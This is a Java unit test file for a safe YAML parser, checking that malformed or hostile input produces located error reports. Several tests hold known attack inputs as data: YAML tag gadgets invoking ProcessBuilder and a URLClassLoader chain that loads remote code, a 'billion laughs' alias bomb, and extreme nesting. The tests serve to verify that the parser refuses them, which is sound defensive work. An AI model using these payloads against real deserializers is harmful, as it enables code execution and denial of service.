package ru.perechen.tp.load;

import static org.assertj.core.api.Assertions.assertThat;

import java.nio.charset.Charset;
import java.nio.charset.StandardCharsets;
import java.util.List;

import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;

import ru.perechen.tp.model.ReadProblem;

/** Hostile and awkward YAML: each gives a located problem, never an exception, a hang or an object built from a tag. */
class SafeYamlParserTest {

    private final SafeYamlParser parser = new SafeYamlParser();

    private ParsedFile parse(String text) {
        return parser.parse("points/TP-001.yaml", text.getBytes(StandardCharsets.UTF_8));
    }

    private static List<String> problems(ParsedFile parsed) {
        return parsed.problems().stream()
                .map(p -> p.location().line() + " " + p.message().key())
                .toList();
    }

    @ParameterizedTest
    @ValueSource(strings = {"NO", "on", "off", "yes", "0755", "1.10", "2026-11-30", "1e3", "0x1F", ".inf", "~x"})
    void plainScalarsKeepTheTextAsWritten(String written) {
        ParsedFile parsed = parse("name: " + written + "\n");
        YamlNode.Mapping root = (YamlNode.Mapping) parsed.root();
        assertThat(parsed.problems()).isEmpty();
        assertThat(((YamlNode.Scalar) root.get("name")).text()).isEqualTo(written);
    }

    @Test
    void byteOrderMarkAndWindowsLineEndingsAreAccepted() {
        byte[] bom = {(byte) 0xEF, (byte) 0xBB, (byte) 0xBF};
        byte[] text = "id: TP-001\r\nname: Сайт\r\n".getBytes(StandardCharsets.UTF_8);
        byte[] bytes = new byte[bom.length + text.length];
        System.arraycopy(bom, 0, bytes, 0, bom.length);
        System.arraycopy(text, 0, bytes, bom.length, text.length);
        ParsedFile parsed = parser.parse("p.yaml", bytes);
        assertThat(parsed.problems()).isEmpty();
        YamlNode.Mapping root = (YamlNode.Mapping) parsed.root();
        assertThat(((YamlNode.Scalar) root.get("name")).text()).isEqualTo("Сайт");
        assertThat(root.get("name").line()).isEqualTo(2);
    }

    @Test
    void tabIndentationIsNamedAtItsLine() {
        assertThat(problems(parse("id: TP-001\nprocesses:\n\t- process: PR-001\n"))).containsExactly("3 tab");
    }

    /** Mistakes made by hand: our own message, at the line and column where the fix goes. */
    @ParameterizedTest
    @CsvSource(delimiter = '|', value = {
        "id: TP-001⏎name: \"Незакрытая кавычка⏎kind: phone⏎   | 2:7 unclosed-quote",
        "id: TP-001⏎name: 'Незакрытая⏎kind: phone⏎            | 2:7 unclosed-quote",
        "id: TP-001⏎accessibility: [vision, hearing⏎kind: x⏎ | 2:16 unclosed-bracket",
        "id: TP-001⏎name: Сайт: главная⏎                       | 2:11 colon-in-value",
        "id: TP-001⏎name: Сайт⏎  kind: website⏎                | 3:7 colon-in-value",
        "processes:⏎  - process: PR-001⏎ - process: PR-002⏎     | 3:2 indentation",
        "name: \"C:\\qwe\"⏎                                    | 1:11 escape",
        "id: TP-001⏎name⏎kind: phone⏎                          | 2:1 missing-colon",
        "name: @minkult⏎                                       | 1:7 reserved-character",
    })
    void commonHandMadeMistakesGetTheirOwnMessageWhereTheFixGoes(String text, String expected) {
        ParsedFile parsed = parse(text.strip().replace("⏎", "\n"));
        List<String> found = parsed.problems().stream()
                .map(p -> p.location().line() + ":" + p.location().column() + " " + p.message().key())
                .toList();
        assertThat(found).containsExactly(expected.strip());
        assertThat(parsed.problems().get(0).hint().key()).isNotEqualTo("hint.yaml-basics");
    }

    @Test
    void anUnusualMistakeStillGetsTheLibrarysWordsAndTheGeneralHint() {
        ParsedFile parsed = parse("name: |x\n  Сайт\n");
        assertThat(problems(parsed)).containsExactly("1 invalid");
        assertThat(parsed.problems().get(0).hint().key()).isEqualTo("hint.yaml-basics");
    }

    @Test
    void windows1251IsRecognisedAndTheHintSaysSo() {
        byte[] bytes = "id: TP-001\nname: Официальный сайт\n".getBytes(Charset.forName("windows-1251"));
        ParsedFile parsed = parser.parse("p.yaml", bytes);
        assertThat(problems(parsed)).containsExactly("2 not-utf8");
        assertThat(parsed.problems().get(0).hint().key()).isEqualTo("hint.save-utf8-from-1251");
        assertThat(parsed.root()).isNull();
    }

    @Test
    void otherInvalidUtf8GetsTheGeneralHint() {
        byte[] bytes = {'i', 'd', ':', ' ', (byte) 0x80, (byte) 0x81, '\n'};
        ParsedFile parsed = parser.parse("p.yaml", bytes);
        assertThat(problems(parsed)).containsExactly("1 not-utf8");
        assertThat(parsed.problems().get(0).hint().key()).isEqualTo("hint.save-utf8");
    }

    @ParameterizedTest
    @ValueSource(strings = {"", "   \n\n", "# только комментарий\n"})
    void emptyFilesAreReported(String text) {
        ParsedFile parsed = parse(text);
        assertThat(parsed.root()).isNull();
        if (text.isBlank()) {
            assertThat(problems(parsed)).containsExactly("0 empty-file");
        } else {
            assertThat(parsed.root()).isNull();
        }
    }

    /** Found by RegisterLoaderFuzzTest: a file of comments only gave no record and no problem, so it passed unseen. */
    @ParameterizedTest
    @ValueSource(strings = {"#d:lyunvsa\n", "# только комментарий\n", "# a\n# b"})
    void aFileOfCommentsOnlyIsReportedAsEmpty(String text) {
        ParsedFile parsed = parse(text);
        assertThat(parsed.root()).isNull();
        assertThat(problems(parsed)).containsExactly("0 empty-file");
    }

    @Test
    void aDuplicateKeyIsReportedAndTheFirstValueKept() {
        ParsedFile parsed = parse("id: TP-001\nname: Первое\nname: Второе\n");
        assertThat(problems(parsed)).containsExactly("3 duplicate-key");
        assertThat(((YamlNode.Scalar) ((YamlNode.Mapping) parsed.root()).get("name")).text()).isEqualTo("Первое");
    }

    @ParameterizedTest
    @ValueSource(strings = {
        "name: !!java.lang.ProcessBuilder [\"calc\"]\n",
        "name: !!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL [\"http://x/\"]]]]\n",
        "name: !custom value\n",
        "name: !<tag:example.com,2026:thing> value\n",
        "name: !!str text\n"})
    void explicitTagsAreRefusedAndNothingIsBuilt(String text) {
        ParsedFile parsed = parse(text);
        assertThat(problems(parsed)).isNotEmpty().allMatch(p -> p.equals("1 tag"));
    }

    @Test
    void aBillionLaughsIsRefusedWithoutExpandingAnything() {
        StringBuilder bomb = new StringBuilder("a: &a [\"lol\",\"lol\",\"lol\",\"lol\",\"lol\",\"lol\",\"lol\",\"lol\",\"lol\"]\n");
        for (char c = 'b'; c <= 'j'; c++) {
            char p = (char) (c - 1);
            bomb.append(c).append(": &").append(c).append(" [*").append(p);
            for (int i = 0; i < 8; i++) {
                bomb.append(",*").append(p);
            }
            bomb.append("]\n");
        }
        ParsedFile parsed = parse(bomb.toString());
        assertThat(parsed.problems()).extracting(p -> p.message().key()).contains("anchor", "alias");
        assertThat(parsed.problems()).allMatch(p -> p.kind() == ReadProblem.Kind.SYNTAX);
    }

    @Test
    void mergeKeysAreRefused() {
        assertThat(problems(parse("base: &b {x: 1}\nother:\n  <<: *b\n"))).contains("3 merge-key");
    }

    @Test
    void tenThousandLevelsOfNestingStopAtTheLimit() {
        String flow = "x: " + "[".repeat(10_000) + "]".repeat(10_000) + "\n";
        assertThat(problems(parse(flow))).containsExactly("1 too-deep");
        String block = "x:\n" + "- ".repeat(10_000) + "a\n";
        assertThat(parse(block).problems()).extracting(p -> p.message().key()).containsExactly("too-deep");
    }

    @Test
    void severalDocumentsAreRefused() {
        assertThat(problems(parse("id: TP-001\n---\nid: TP-002\n"))).containsExactly("2 several-documents");
    }

    @Test
    void aNulByteIsNotText() {
        ParsedFile parsed = parser.parse("p.yaml", "id: TP-001\nname: a\0b\n".getBytes(StandardCharsets.UTF_8));
        assertThat(problems(parsed)).containsExactly("2 nul-byte");
    }

    @Test
    void complexKeysAreRefused() {
        assertThat(problems(parse("? [a, b]\n: value\n"))).containsExactly("1 complex-key");
    }

    @Test
    void brokenSyntaxIsLocatedAndTranslated() {
        ParsedFile parsed = parse("id: TP-001\nname: \"не закрыта\nkind: phone\n");
        assertThat(parsed.root()).isNull();
        assertThat(parsed.problems()).singleElement().satisfies(p -> {
            assertThat(p.message().key()).isEqualTo("unclosed-quote");
            assertThat(p.location().line()).isEqualTo(2);
        });
    }

    @Test
    void aFileOverTheLimitIsRefusedUnparsed() {
        byte[] big = new byte[SafeYamlParser.MAX_FILE_BYTES + 1];
        java.util.Arrays.fill(big, (byte) 'a');
        assertThat(problems(parser.parse("p.yaml", big))).containsExactly("0 too-large");
    }
}
